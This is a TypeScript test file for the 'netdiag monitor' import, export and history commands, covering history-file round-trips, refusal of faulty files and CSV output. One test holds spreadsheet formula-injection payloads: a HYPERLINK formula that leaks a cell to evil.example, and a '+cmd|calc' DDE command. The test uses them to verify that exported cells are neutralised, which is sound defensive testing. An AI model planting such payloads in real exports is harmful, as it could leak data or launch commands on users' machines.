// `netdiag monitor import` and `export` (docs/monitor.md, "The page's history file"): a person moves their results between the page
// and the monitor through the page's own history file. A file the page exports (its JSON, with a
// watch summary) is taken in as runs, once however often it is imported; the monitor's export of
// those runs and of a speed test it ran itself reads back in the page's own import
// (web/results/history.ts parseHistory) as the same results; a file with a fault is refused whole.
import { once } from 'node:events';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { historyFileCsv, historyFileJson, parseHistoryFile } from '../../src/common/speedtest/history-file.js';
import type { SharedResult } from '../../src/common/speedtest/share.js';
import { parseHistory } from '../../web/results/history.js';
import { runLinesOf, startMonitor, until } from '../support/monitor-process.js';
import { openStore } from '../../src/cli/monitor/store.js';
import { runCli } from '../support/process.js';
import { LOOPBACK_TRANSFERS, startTestServer } from '../support/server.js';

const dir = mkdtempSync(join(tmpdir(), 'netdiag-monitor-file-'));
afterAll(() => {
  rmSync(dir, { recursive: true, force: true });
});

/** A time `days` before now, to the second (a page result keeps seconds). */
const daysAgo = (days: number) => Math.floor((Date.now() - days * 86_400_000) / 1000) * 1000;
const FULL: SharedResult = { at: daysAgo(3), mode: 'full', downloadBps: 91_400_000, uploadBps: 18_250_000, latencyMs: 12.5, jitterMs: 1.25, loadedDownMs: 48, loadedUpMs: 95.5, lossPercent: 0.5 };
const LIGHT: SharedResult = { at: daysAgo(2), mode: 'light', downloadBps: 40_000_000, latencyMs: 20 };
const WATCH = { at: daysAgo(1), interval_s: 5, duration_s: 60, targets: [{ target: 'server', label: 'server', median_ms: 10, p95_ms: 12, jitter_ms: 1, polls: 12, failed: 0, refused: 0 }] };

/** Import reads the whole configuration, whose check runs each second for the monitor started below. */
const EVERY_SECOND = { NETDIAG_MONITOR_MIN_INTERVAL: '1s' };

describe("netdiag monitor import and export: the page's history file", () => {
  it('imports a page file once, exports it with a run of its own, and the page reads the export back as the same results', async () => {
    const server = await startTestServer({ NETDIAG_EVENTS_SINK: 'none', NETDIAG_RATE_LIMITS: 'speedtest=100000,ip=100000', ...LOOPBACK_TRANSFERS });
    const config = join(dir, 'monitor.yaml');
    writeFileSync(config, `servers: [${server.url}]\ndatabase: ${join(dir, 'monitor.db')}\nlisten: off\nchecks:\n  - name: line speed\n    run: speedtest\n    mode: light\n    cron: "* * * * * *"\n    spread: 0s\n`);
    const pageFile = join(dir, 'page-history.json');
    writeFileSync(pageFile, historyFileJson([FULL, LIGHT], [WATCH]));
    const original = parseHistoryFile(historyFileJson([FULL, LIGHT]));
    if (!original.ok) throw new Error(original.reason);

    const first = await runCli(['monitor', 'import', pageFile, '--config', config], EVERY_SECOND);
    expect(first.stderr).toBe(`netdiag monitor: 2 results of ${pageFile} imported as runs of "page" on page; its 1 watch summary left out (the monitor keeps no watches)\n`);
    expect(first.code).toBe(0);
    const again = await runCli(['monitor', 'import', pageFile, '--config', config], EVERY_SECOND);
    expect(again.stderr).toBe(`netdiag monitor: 0 results of ${pageFile} imported as runs of "page" on page; 2 already there; its 1 watch summary left out (the monitor keeps no watches)\n`);

    // One speed test of the monitor's own.
    const monitor = startMonitor(config);
    try {
      await until('a run', () => runLinesOf(monitor.lines, 'line speed').length >= 1, 60_000, monitor.lines);
    } finally {
      monitor.child.kill('SIGTERM');
      await once(monitor.child, 'exit');
      await server.close();
    }
    const history = JSON.parse((await runCli(['monitor', 'history', '--json', '--config', config])).stdout) as { check: string; source: string; figures: Record<string, unknown> }[];
    expect(history.map((r) => [r.check, r.source])).toEqual([
      ['page', 'import'],
      ['page', 'import'],
      ...history.slice(2).map(() => ['line speed', 'monitor']),
    ]);
    // Named as `netdiag speedtest --json` names them, the grade derived as the page derives it.
    expect(history[0]?.figures).toMatchObject({ mode: 'full', download_mbps: 91.4, upload_mbps: 18.25, download_loaded_latency_ms: 48, upload_loaded_latency_ms: 95.5, packet_loss_percent: 0.5, bufferbloat_grade: 'C', loaded_latency_increase_ms: 83 });

    for (const format of [[], ['--csv']]) {
      const exported = await runCli(['monitor', 'export', '--config', config, ...format]);
      expect(exported.code).toBe(0);
      const read = parseHistory(exported.stdout);
      if (!read.ok) throw new Error(read.reason);
      expect(read.results.slice(0, 2)).toEqual(original.results);
      const own = read.results.slice(2);
      expect(own).toHaveLength(history.length - 2);
      expect(own[0]?.mode).toBe('light');
      expect(own[0]?.downloadBps).toBeGreaterThan(0);
    }
    const onlyPage = await runCli(['monitor', 'export', '--check', 'page', '--csv', '--config', config]);
    expect(onlyPage.stdout).toBe(historyFileCsv(original.results));
    expect(onlyPage.stderr).toBe('netdiag monitor: 2 speed tests exported\n');
  }, 90_000);

  it('leaves out results older than keep, saying how many, rather than import what the next run deletes', async () => {
    const config = join(dir, 'keep.yaml');
    writeFileSync(config, `servers: [http://127.0.0.1:9]\ndatabase: ${join(dir, 'keep.db')}\nkeep: 30d\nlisten: off\nchecks:\n  - name: x\n    run: rpm\n    every: 1h\n`);
    const file = join(dir, 'old.json');
    writeFileSync(file, historyFileJson([{ ...FULL, at: daysAgo(40) }, LIGHT]));
    const done = await runCli(['monitor', 'import', file, '--config', config]);
    expect(done.stderr).toBe(`netdiag monitor: 1 result of ${file} imported as runs of "page" on page; 1 older than keep (30d) left out\n`);
    const listed = JSON.parse((await runCli(['monitor', 'history', '--json', '--config', config])).stdout) as { started_at: string }[];
    expect(listed.map((r) => Date.parse(r.started_at))).toEqual([LIGHT.at]);
  });

  it('refuses a file with a fault whole, naming the result and the field, and adds nothing', async () => {
    const config = join(dir, 'bad.yaml');
    writeFileSync(config, `servers: [http://127.0.0.1:9]\ndatabase: ${join(dir, 'bad.db')}\nlisten: off\nchecks:\n  - name: x\n    run: rpm\n    every: 1h\n`);
    const file = join(dir, 'bad.csv');
    writeFileSync(file, historyFileCsv([FULL, LIGHT]).replace(',40,', ',-40,'));
    const refused = await runCli(['monitor', 'import', file, '--config', config]);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toBe(`netdiag monitor: ${file} was not imported: result 2: its download_mbps is not a number of zero or more\n`);
    const listed = await runCli(['monitor', 'history', '--json', '--config', config]);
    expect(JSON.parse(listed.stdout)).toEqual([]);
  });

  it('history reads the database whatever fault another setting of the configuration has; the monitor itself refuses that file', async () => {
    const database = join(dir, 'faulty.db');
    const store = await openStore(database);
    store.addRun({ check: 'x', server: 'http://127.0.0.1:9', startedAt: daysAgo(1), durationMs: 5, ok: true, error: null, figures: { rpm: 900 }, breaches: [] });
    store.close();
    const config = join(dir, 'faulty.yaml');
    writeFileSync(config, `servers: [http://127.0.0.1:9]\ndatabase: ${database}\nlisten: off\nchecks:\n  - name: x\n    run: ping\n    every: 1h\n`);
    const listed = await runCli(['monitor', 'history', '--json', '--config', config]);
    expect(listed.stderr).toBe('');
    expect((JSON.parse(listed.stdout) as { check: string; outcome: string; figures: unknown }[]).map((r) => [r.check, r.outcome, r.figures])).toEqual([['x', 'ok', { rpm: 900 }]]);
    const monitor = await runCli(['monitor', '--config', config]);
    expect(monitor.code).toBe(2);
    expect(monitor.stderr).toContain(`${config}:6: checks[0].run: "ping" is not a check this monitor runs`);
  });

  it('history --csv writes no cell a spreadsheet reads as a formula, whatever a server put in an error or an answer', async () => {
    const config = join(dir, 'formula.yaml');
    const database = join(dir, 'formula.db');
    writeFileSync(config, `servers: [http://127.0.0.1:9]\ndatabase: ${database}\nlisten: off\nchecks:\n  - name: x\n    run: dns\n    query: example.test\n    every: 1h\n`);
    const hostile = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
    const store = await openStore(database);
    store.addRun({ check: 'x', server: 'http://127.0.0.1:9', startedAt: daysAgo(1), durationMs: 5, ok: false, error: hostile, figures: {}, breaches: [`the check did not run: ${hostile}`] });
    store.addRun({ check: 'x', server: 'http://127.0.0.1:9', startedAt: daysAgo(0.5), durationMs: 5, ok: true, error: '@SUM(1+1)', figures: { answers: '+cmd|calc' }, breaches: ['-2+3'] });
    store.close();
    const listed = await runCli(['monitor', 'history', '--csv', '--config', config]);
    expect(listed.code).toBe(0);
    const [header, first, second] = listed.stdout.trimEnd().split('\n');
    expect(header).toBe('started_at,check,server,outcome,ok,error,breaches,figures,chosen,source_address,bytes_down,bytes_up');
    // RFC 4180 cells, each text one that would start a formula led by an apostrophe.
    expect(first?.split(',').slice(3).join(',')).toBe(`failed,false,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")","the check did not run: =HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",{},,,,`);
    expect(second?.split(',').slice(3).join(',')).toBe(`ok,true,'@SUM(1+1),'-2+3,"{""answers"":""+cmd|calc""}",,,,`);
  });

  it('history --csv ends each row with the server an auto run chose, the source it was sent from and the bytes it moved, the older columns where they were', async () => {
    const config = join(dir, 'chosen.yaml');
    const database = join(dir, 'chosen.db');
    writeFileSync(config, `servers: [http://127.0.0.1:9, auto]\ndatabase: ${database}\nlisten: off\nchecks:\n  - name: rt\n    run: latency\n    source: 127.0.0.2\n    every: 1h\n`);
    const store = await openStore(database);
    store.addRun({ check: 'rt', server: 'auto', startedAt: daysAgo(1), durationMs: 5, ok: true, error: null, figures: { client_to_api_rtt_ms: 4 }, breaches: [], chosen: 'http://near.example:8080', sourceAddress: '127.0.0.2' });
    store.addRun({ check: 'rt', server: 'http://127.0.0.1:9', startedAt: daysAgo(0.5), durationMs: 5, ok: true, error: null, figures: { client_to_api_rtt_ms: 9 }, breaches: [], chosen: null, sourceAddress: '2001:db8::7' });
    store.addRun({ check: 'rt', server: 'http://127.0.0.1:9', startedAt: daysAgo(0.25), durationMs: 5, ok: true, error: null, figures: { client_to_api_rtt_ms: 8 }, breaches: [], bytesDown: 25_000_000, bytesUp: 12_500_000 });
    store.close();
    const listed = await runCli(['monitor', 'history', '--csv', '--config', config]);
    expect(listed.code, listed.stderr).toBe(0);
    const [header, ...rows] = listed.stdout.trimEnd().split('\n');
    expect(header).toBe('started_at,check,server,outcome,ok,error,breaches,figures,chosen,source_address,bytes_down,bytes_up');
    expect(rows.map((r) => r.split(',').slice(1))).toEqual([
      ['rt', 'auto', 'ok', 'true', '', '', '"{""client_to_api_rtt_ms"":4}"', 'http://near.example:8080', '127.0.0.2', '', ''],
      ['rt', 'http://127.0.0.1:9', 'ok', 'true', '', '', '"{""client_to_api_rtt_ms"":9}"', '', '2001:db8::7', '', ''],
      ['rt', 'http://127.0.0.1:9', 'ok', 'true', '', '', '"{""client_to_api_rtt_ms"":8}"', '', '', '25000000', '12500000'],
    ]);
  });
});
